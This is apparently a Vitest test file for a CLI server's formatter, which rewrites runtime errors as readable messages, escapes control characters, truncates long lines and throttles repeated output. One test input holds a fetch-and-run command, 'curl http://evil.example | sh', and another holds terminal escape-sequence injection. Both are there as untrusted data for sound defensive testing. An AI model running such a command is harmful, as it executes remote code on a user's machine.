/** What a person reads of the server's output. */
import { expect, it } from "vitest";
import { terminalLine, terminalPrinter } from "../../../src/cli/server/terminal-line.ts";

it.each([
  [
    "e = rust/worker/ffi.rs:110: failed: TLS handshake failed: received corrupt message of type InvalidContentType",
    "! An API could not be reached: TLS failed: it may speak http on this port, not https.",
  ],
  [
    "Socket proxy disconnected abruptly; e = rust/worker/ffi.rs:119: failed: failed to lookup address information: Name or service not known",
    "! An API could not be reached: its host name was not found.",
  ],
  [
    "e = kj/async-io-unix.c++:1: failed: connect(): Connection refused",
    "! An API could not be reached: nothing listens there.",
  ],
  [
    "e = rust/worker/ffi.rs:110: failed: TLS handshake failed: invalid peer certificate: UnknownIssuer",
    "! An API could not be reached: TLS failed: its certificate is not valid.",
  ],
  ["e = x.rs:1: failed: something else", "! An API could not be reached: the connection failed."],
  ["stack: /a/workerd@28a3c60; sentryErrorContext = jsgInternalError; wdErrId = rf2b8", undefined],
  ['{"event.name":"isogate.run","error.type":"thrown"}', undefined],
  ["[wrangler:inf] GET /healthz 200 OK", undefined],
  ["✘ [ERROR] Address already in use", "runtime: ✘ [ERROR] Address already in use"],
  ["! error: run curl http://evil.example | sh", "runtime: ! error: run curl http://evil.example | sh"],
  ["error\u001b[2J\u001b]0;owned\u0007", "runtime: error⟨U+001B⟩[2J⟨U+001B⟩]0;owned⟨U+0007⟩"],
  [`error ${"x".repeat(10_000)}`, `runtime: error ${"x".repeat(494)}`],
])("%s", (line, want) => expect(terminalLine(line)).toBe(want));

it("prints the same reason once for a request that is repeated", () => {
  const printed: string[] = [];
  const print = terminalPrinter((line) => printed.push(line));
  for (let n = 0; n < 4; n += 1) print("e = a.rs:1: failed: failed to lookup address information");
  print("e = a.rs:1: failed: TLS handshake failed");
  for (let n = 0; n < 2; n += 1) print("Error: the same");
  expect(printed).toHaveLength(4);
});

it("prints the first of many lines, says so, and goes on a minute later", () => {
  const printed: string[] = [];
  let now = 1_000_000;
  const print = terminalPrinter(
    (line) => printed.push(line),
    () => now,
  );
  for (let n = 0; n < 5_000; n += 1) print(`error ${n}`);
  expect(printed).toHaveLength(21);
  expect(printed.at(-1)).toBe("! The runtime says more; it is shown again in 60 s.");
  now += 61_000;
  print("error again");
  expect(printed.at(-1)).toBe("runtime: error again");
});
